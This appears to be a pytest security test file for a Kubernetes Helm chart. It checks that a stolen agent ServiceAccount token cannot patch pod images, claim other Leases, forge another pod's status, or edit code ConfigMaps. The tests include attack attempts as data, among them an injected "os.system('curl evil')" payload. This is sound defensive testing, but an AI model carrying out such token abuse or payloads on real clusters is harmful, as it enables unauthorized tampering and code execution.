"""Attacks with the agent's own credentials on a real kube-apiserver (issue 10, findings 2 and 6).

A ServiceAccount token from TokenRequest (what the kubelet mounts into the agent) is
all an attacker who took over an agent container has. These tests use one against
the release installed by helm, and check what RBAC and the chart's
ValidatingAdmissionPolicy leave it: the role label and its own annotations of its
release's pods, its own Lease, Events about its pods. Nothing else.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import kubernetes
import pytest
import yaml
from kubernetes.client.rest import ApiException

from tests.apiserver.test_chart_release import FULLNAME, LEASE, RELEASE, SERVICE_ACCOUNT, Cluster, wait_for
from tests.chart.helm import CHART, MINIMAL_ZONES

PODS = [f"{FULLNAME}-{ordinal}" for ordinal in range(3)]
VICTIM = "victim"
OWNER = {"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "00000000-0000-0000-0000-000000000000"}
RESTRICTED_CONTAINER = {
    "name": "app",
    "image": "registry.example/app:1",
    "securityContext": {
        "allowPrivilegeEscalation": False,
        "runAsNonRoot": True,
        "runAsUser": 1000,
        "capabilities": {"drop": ["ALL"]},
        "seccompProfile": {"type": "RuntimeDefault"},
    },
}


@pytest.fixture(scope="module")
def cluster(kube_config: str, api_client: kubernetes.client.ApiClient) -> Cluster:
    return Cluster(kube_config, api_client)


@pytest.fixture(scope="module")
def release(cluster: Cluster, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The chart installed (3 replicas, admission policy on) next to a pod of someone else."""
    namespace = cluster.restricted_namespace("rights")
    values = tmp_path_factory.mktemp("values") / "values.yaml"
    values.write_text(yaml.safe_dump({"zones": MINIMAL_ZONES}))
    cluster.helm(namespace, "install", RELEASE, str(CHART), "-f", str(values))
    core = kubernetes.client.CoreV1Api(cluster.api)
    wait_for(
        "the default ServiceAccount", lambda: cluster.get(namespace, "serviceaccount", "default") is not None
    )
    core.create_namespaced_pod(
        namespace,
        {
            "metadata": {"name": VICTIM, "labels": {"app": "victim"}},
            "spec": {"containers": [RESTRICTED_CONTAINER]},
        },
    )
    wait_for("the StatefulSet's pods", lambda: set(PODS) <= set(cluster.pods(namespace)))
    yield namespace
    cluster.helm(namespace, "uninstall", RELEASE, check=False)


def agent_api(cluster: Cluster, namespace: str, bound_to: str | None = None) -> kubernetes.client.CoreV1Api:
    """A client holding a TokenRequest token of the agent's ServiceAccount (bound to a pod, as the
    kubelet mounts it, when bound_to names one)."""
    core = kubernetes.client.CoreV1Api(cluster.api)
    spec: dict[str, Any] = {"expirationSeconds": 3600}
    if bound_to is not None:
        pod = core.read_namespaced_pod(bound_to, namespace)
        spec["boundObjectRef"] = {
            "kind": "Pod",
            "apiVersion": "v1",
            "name": bound_to,
            "uid": pod.metadata.uid,
        }
    token = core.create_namespaced_service_account_token(
        SERVICE_ACCOUNT, namespace, {"spec": spec}
    ).status.token
    configuration = kubernetes.client.Configuration()
    configuration.host = cluster.api.configuration.host
    configuration.ssl_ca_cert = cluster.api.configuration.ssl_ca_cert
    configuration.api_key = {"authorization": f"Bearer {token}"}
    return kubernetes.client.CoreV1Api(kubernetes.client.ApiClient(configuration))


def status_of(call: Callable[[], object]) -> int:
    """The HTTP status of an API call: 200 when it went through."""
    try:
        call()
    except ApiException as error:
        return int(error.status)
    return 200


def image_patch(image: str, container: str) -> dict[str, Any]:
    return {"spec": {"containers": [{"name": container, "image": image}]}}


@pytest.fixture(scope="module")
def policy_active(cluster: Cluster, release: str) -> str:
    """Wait until the admission policy refuses what it must (it reaches the API server's
    admission chain shortly after helm creates it); returns the namespace."""
    agent = agent_api(cluster, release)

    def refused() -> bool:
        probe = {"metadata": {"labels": {"probe": "x"}}}
        return status_of(lambda: agent.patch_namespaced_pod(PODS[0], release, probe)) in (403, 422)

    wait_for("the admission policy to take effect", refused, timeout=60)
    return release


def test_a_foreign_pods_image_cannot_be_patched_with_the_agents_token(cluster: Cluster, release: str) -> None:
    """Before: the agent's ServiceAccount could patch every pod of the namespace, images included.
    (RBAC alone refuses it now: the agent may patch only its StatefulSet's pods, by name.)"""
    agent = agent_api(cluster, release)
    patch = image_patch("registry.example/evil:1", "app")
    assert status_of(lambda: agent.patch_namespaced_pod(VICTIM, release, patch)) == 403
    core = kubernetes.client.CoreV1Api(cluster.api)
    assert core.read_namespaced_pod(VICTIM, release).spec.containers[0].image == "registry.example/app:1"


def test_a_release_pods_image_cannot_be_patched_with_the_agents_token(
    cluster: Cluster, policy_active: str
) -> None:
    agent = agent_api(cluster, policy_active)
    core = kubernetes.client.CoreV1Api(cluster.api)
    before = core.read_namespaced_pod(PODS[0], policy_active).spec.containers[0].image
    for container in ("named", "agent"):
        patch = image_patch("registry.example/evil:1", container)
        assert status_of(lambda patch=patch: agent.patch_namespaced_pod(PODS[0], policy_active, patch)) in (
            403,
            422,
        )
    assert core.read_namespaced_pod(PODS[0], policy_active).spec.containers[0].image == before


def test_the_agent_may_still_do_its_work(cluster: Cluster, policy_active: str) -> None:
    """The role label, the status and heartbeat annotations, the Lease (its spec, and answers to
    operators' requests on its annotations) and Events: what agent.py does."""
    agent = agent_api(cluster, policy_active)
    for pod, role in ((PODS[0], "primary"), (PODS[1], "secondary")):
        assert (
            status_of(
                lambda pod=pod, role=role: agent.patch_namespaced_pod(
                    pod, policy_active, {"metadata": {"labels": {"bind-ha.io/role": role}}}
                )
            )
            == 200
        )
    annotations = {"bind-ha.io/status": '{"healthy":true,"serials":{}}', "bind-ha.io/heartbeat": "now"}
    assert (
        status_of(
            lambda: agent.patch_namespaced_pod(
                PODS[2], policy_active, {"metadata": {"annotations": annotations}}
            )
        )
        == 200
    )
    leases = kubernetes.client.CoordinationV1Api(agent.api_client)
    lease = {"metadata": {"name": LEASE}, "spec": {"holderIdentity": "p/u", "leaseDurationSeconds": 10}}
    assert status_of(lambda: leases.create_namespaced_lease(policy_active, lease)) == 200
    current = leases.read_namespaced_lease(LEASE, policy_active)
    current.spec.holder_identity = "q/v"
    assert status_of(lambda: leases.replace_namespaced_lease(LEASE, policy_active, current)) == 200
    # An answer to an operator's request, the request removed (steering.py), by the same update.
    current = leases.read_namespaced_lease(LEASE, policy_active)
    current.metadata.annotations = {"bind-ha.io/answer-switchover": '{"outcome":"refused"}'}
    assert status_of(lambda: leases.replace_namespaced_lease(LEASE, policy_active, current)) == 200
    event = event_about(PODS[0], policy_active)
    assert status_of(lambda: agent.create_namespaced_event(policy_active, event)) == 200


def event_about(pod: str, namespace: str) -> dict[str, Any]:
    return {
        "metadata": {"generateName": f"{pod}.", "namespace": namespace},
        "involvedObject": {"apiVersion": "v1", "kind": "Pod", "name": pod, "namespace": namespace},
        "reason": "Promoted",
        "message": "test",
        "type": "Normal",
        "source": {"component": "bind-ha-agent"},
    }


@pytest.mark.parametrize(
    ("what", "patch"),
    [
        ("leave its Service", {"metadata": {"labels": {"app.kubernetes.io/instance": "other"}}}),
        ("a label of its own", {"metadata": {"labels": {"evil": "yes"}}}),
        ("a role that is no role", {"metadata": {"labels": {"bind-ha.io/role": "leader"}}}),
        ("drop the selector labels", {"metadata": {"labels": {"app.kubernetes.io/name": None}}}),
        ("an annotation of someone else", {"metadata": {"annotations": {"kubectl.kubernetes.io/x": "y"}}}),
        ("a finalizer", {"metadata": {"finalizers": ["example.com/block"]}}),
        ("an owner", {"metadata": {"ownerReferences": [OWNER]}}),
        ("a toleration", {"spec": {"tolerations": [{"key": "x", "operator": "Exists"}]}}),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_every_other_change_to_a_release_pod_is_refused(
    cluster: Cluster, policy_active: str, what: str, patch: dict[str, Any]
) -> None:
    agent = agent_api(cluster, policy_active)
    assert status_of(lambda: agent.patch_namespaced_pod(PODS[1], policy_active, patch)) in (403, 422), what


def test_leases_and_events_of_other_names_are_refused(cluster: Cluster, policy_active: str) -> None:
    """Before: the agent could create Leases of any name (other controllers' locks)."""
    agent = agent_api(cluster, policy_active)
    leases = kubernetes.client.CoordinationV1Api(agent.api_client)
    other = {"metadata": {"name": "kube-scheduler-lock"}, "spec": {"holderIdentity": "evil"}}
    assert status_of(lambda: leases.create_namespaced_lease(policy_active, other)) == 403
    assert (
        status_of(lambda: agent.create_namespaced_event(policy_active, event_about(VICTIM, policy_active)))
        == 403
    )


def test_a_token_bound_to_a_pod_annotates_only_that_pod(cluster: Cluster, policy_active: str) -> None:
    """The kubelet's tokens are bound to their pod: one agent cannot forge another's status."""
    agent = agent_api(cluster, policy_active, bound_to=PODS[0])
    forged = {"metadata": {"annotations": {"bind-ha.io/status": '{"healthy":false,"serials":{}}'}}}
    assert status_of(lambda: agent.patch_namespaced_pod(PODS[1], policy_active, forged)) == 403
    assert status_of(lambda: agent.patch_namespaced_pod(PODS[0], policy_active, forged)) == 200
    relabel = {"metadata": {"labels": {"bind-ha.io/role": "secondary"}}}
    assert status_of(lambda: agent.patch_namespaced_pod(PODS[1], policy_active, relabel)) == 200, (
        "a new leader relabels the old primary"
    )


def test_the_policy_compiles_without_warnings(cluster: Cluster, release: str) -> None:
    name = f"{release}.{FULLNAME}.bind-ha.io"
    admission = kubernetes.client.AdmissionregistrationV1Api(cluster.api)

    def checked() -> bool:
        policy = admission.read_validating_admission_policy(name)
        return policy.status is not None and policy.status.observed_generation == policy.metadata.generation

    wait_for("the policy's type check", checked)
    policy = admission.read_validating_admission_policy(name)
    warnings = policy.status.type_checking.expression_warnings if policy.status.type_checking else None
    assert not warnings, warnings
    binding = admission.read_validating_admission_policy_binding(name)
    assert binding.spec.policy_name == name


CAN_I_DENIED = [
    ("patch", f"pods/{VICTIM}"),
    ("patch", "pods"),
    ("update", f"pods/{PODS[0]}"),
    ("patch", f"pods/{FULLNAME}-3"),
    ("get", f"pods/{PODS[0]}"),
    ("delete", f"pods/{PODS[0]}"),
    ("patch", "events"),
    ("update", "events"),
    ("create", "pods#eviction"),
    ("patch", "configmaps"),
]


@pytest.mark.parametrize(("verb", "resource"), CAN_I_DENIED, ids=[f"{v} {r}" for v, r in CAN_I_DENIED])
def test_rights_the_agent_no_longer_has(cluster: Cluster, release: str, verb: str, resource: str) -> None:
    assert not cluster.can_i(release, verb, resource)


def install(cluster: Cluster, prefix: str, replicas: int, tmp_path: Path) -> tuple[str, Path]:
    """The chart in a new restricted namespace (no admission policy: not what these tests look
    at); returns the namespace and the values file, for upgrades."""
    namespace = cluster.restricted_namespace(prefix)
    values = tmp_path / "values.yaml"
    values.write_text(
        yaml.safe_dump({"zones": MINIMAL_ZONES, "replicaCount": replicas, "rbac": {"admissionPolicy": False}})
    )
    cluster.helm(namespace, "install", RELEASE, str(CHART), "-f", str(values))
    return namespace, values


def uninstall(cluster: Cluster, namespace: str) -> None:
    cluster.helm(namespace, "uninstall", RELEASE)
    kubernetes.client.CoreV1Api(cluster.api).delete_namespace(namespace)


def test_an_upgrade_to_more_replicas_extends_the_pods_the_agent_may_patch(
    cluster: Cluster, tmp_path: Path
) -> None:
    namespace, values = install(cluster, "scale", 2, tmp_path)
    assert cluster.can_i(namespace, "patch", f"pods/{FULLNAME}-1")
    assert not cluster.can_i(namespace, "patch", f"pods/{FULLNAME}-4")
    cluster.helm(namespace, "upgrade", RELEASE, str(CHART), "-f", str(values), "--set", "replicaCount=5")
    assert cluster.can_i(namespace, "patch", f"pods/{FULLNAME}-4")
    assert not cluster.can_i(namespace, "patch", f"pods/{FULLNAME}-5")
    uninstall(cluster, namespace)


def scripts_configmaps(cluster: Cluster, namespace: str) -> dict[str, dict[str, Any]]:
    listed = json.loads(cluster.kubectl(namespace, "get", "configmaps", "-o", "json").stdout)["items"]
    return {
        item["metadata"]["name"]: item
        for item in listed
        if item["metadata"]["name"].startswith((f"{FULLNAME}-python-", f"{FULLNAME}-hooks-"))
    }


def test_code_configmaps_cannot_be_edited_and_an_upgrade_rolls_onto_new_ones(
    cluster: Cluster, tmp_path: Path
) -> None:
    """Finding 6: before, anyone able to edit the ConfigMap changed the code under running pods."""
    namespace, values = install(cluster, "code", 1, tmp_path)
    first = scripts_configmaps(cluster, namespace)
    assert len(first) == 2 and all(item["immutable"] is True for item in first.values())
    python = next(name for name in first if "-python-" in name)
    edit = cluster.kubectl(
        namespace, "patch", "configmap", python, "--type=merge", "-p",
        json.dumps({"data": {"agent.py": "import os; os.system('curl evil')"}}), check=False,
    )  # fmt: skip
    assert edit.returncode != 0 and "immutable" in edit.stderr.lower(), edit.stderr

    changed = tmp_path / "chart"
    shutil.copytree(CHART, changed, symlinks=False, ignore=shutil.ignore_patterns("__pycache__"))
    settings_py = changed / "files" / "bind_ha" / "settings.py"
    settings_py.write_text(settings_py.read_text() + "# a new version\n")
    cluster.helm(namespace, "upgrade", RELEASE, str(changed), "-f", str(values))
    second = scripts_configmaps(cluster, namespace)
    new_python = next(name for name in second if "-python-" in name)
    assert new_python != python and python not in second, "helm replaced the old ConfigMap"
    assert set(first) - {python} == set(second) - {new_python}, "the unchanged hooks keep their name"
    statefulset = cluster.get(namespace, "statefulset", FULLNAME)
    assert statefulset is not None
    volumes = {v["name"]: v for v in statefulset["spec"]["template"]["spec"]["volumes"]}
    assert volumes["python"]["configMap"]["name"] == new_python, "the pods roll onto the new code"
    uninstall(cluster, namespace)
